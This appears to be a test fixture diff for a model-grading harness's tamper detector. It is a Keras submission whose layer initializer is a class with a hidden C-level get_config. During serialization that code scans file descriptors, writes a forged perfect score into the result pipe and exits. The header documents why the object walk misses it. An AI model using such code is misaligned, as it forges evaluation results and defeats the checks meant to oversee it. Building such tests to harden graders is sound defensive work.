@@ -1,0 +1,70 @@
+# adversarial: SGD model whose first Dense layer gets, as its kernel_initializer, a class object of its own (made with type(), so its type is `type`) whose class attribute get_config is a C-level callable (functools.partial, no Python frame). The walk (integrity.foreign_object) asks the type of each object it reaches, finds `type`, a known class, and does not look into classes or modules (NO_STATE), while Keras' initializers.serialize calls <that class>.get_config() when Dense.get_config runs in the sender thread during to_json: the callable finds the result pipe by polling every descriptor number, writes a forged 10/10 result and os._exit(0)s [a fix refusing callable instance attributes does not see this one]
+# expect-status: error
+# expect-kind: tampered
+# expect-max-score: 8
+import collections
+import functools
+import itertools
+import json
+import operator
+import os
+import resource
+import select
+
+import keras
+
+
+def forged_payload():
+    ref = keras.Sequential([
+        keras.Input(shape=(64,)),
+        keras.layers.Dense(512, activation="relu"),
+        keras.layers.Dense(10, activation="softmax"),
+    ])
+    ref.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
+    return {"model": {"variable": "model", "config": json.loads(ref.to_json()),
+                      "weight_shapes": [list(w.shape) for w in ref.get_weights()],
+                      "weight_state": [[w.trainable, False, False, False] for w in ref.weights], "compiled": True,
+                      "compile_config": json.loads(json.dumps(ref.get_compile_config(), default=repr))},
+            "notes": ["ESCAPED: this result was forged by the submission"]}
+
+
+def forge_steps(how):
+    """Lazy C-level steps (nothing runs until they are iterated): find every descriptor above stdio of the
+    calling thread's file table that is the write end of a pipe (select.poll, set up here, reports POLLNVAL
+    for the numbers the table lacks), write a forged 10/10 result to each, os._exit(0)."""
+    payload = json.dumps(forged_payload()).encode()
+    probe_r, probe_w = os.pipe()
+    probe = select.poll()
+    probe.register(probe_w, select.POLLOUT)
+    writable = probe.poll(0)[0][1]
+    os.close(probe_r)
+    os.close(probe_w)
+    poller = select.poll()
+    collections.deque(map(poller.register, range(3, resource.getrlimit(resource.RLIMIT_NOFILE)[0]),
+                          itertools.repeat(select.POLLOUT)), 0)
+    polled = itertools.chain.from_iterable(map(operator.call, [functools.partial(poller.poll, 0)]))
+    numbers, events = itertools.tee(polled)
+    fds = itertools.compress(map(operator.itemgetter(0), numbers),
+                             map(functools.partial(operator.eq, writable), map(operator.itemgetter(1), events)))
+    # Each pipe found gets the payload, then stdout the ESCAPED line: fd, 1, fd', 1, ...
+    announce = f"ESCAPED: forged result written to a pipe of the sender thread's file table ({how})\n".encode()
+    writes = map(os.write, itertools.chain.from_iterable(zip(fds, itertools.repeat(1))),
+                 itertools.cycle([payload, announce]))
+    return map(operator.call, [
+        functools.partial(collections.deque, writes, 0),
+        functools.partial(os._exit, 0),
+    ])
+
+
+model = keras.Sequential([
+    keras.Input(shape=(64,)),
+    keras.layers.Dense(512, activation="relu"),
+    keras.layers.Dense(10, activation="softmax"),
+])
+model.compile(optimizer="sgd", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
+
+# Its type is `type`, which existed before; what it holds is never looked at.
+Initializer = type("Initializer", (), {
+    "get_config": functools.partial(collections.deque, forge_steps("a class object's get_config"), 0)})
+# Last: from here on, the layer's config may not be asked for in the main thread.
+model.layers[0].kernel_initializer = Initializer
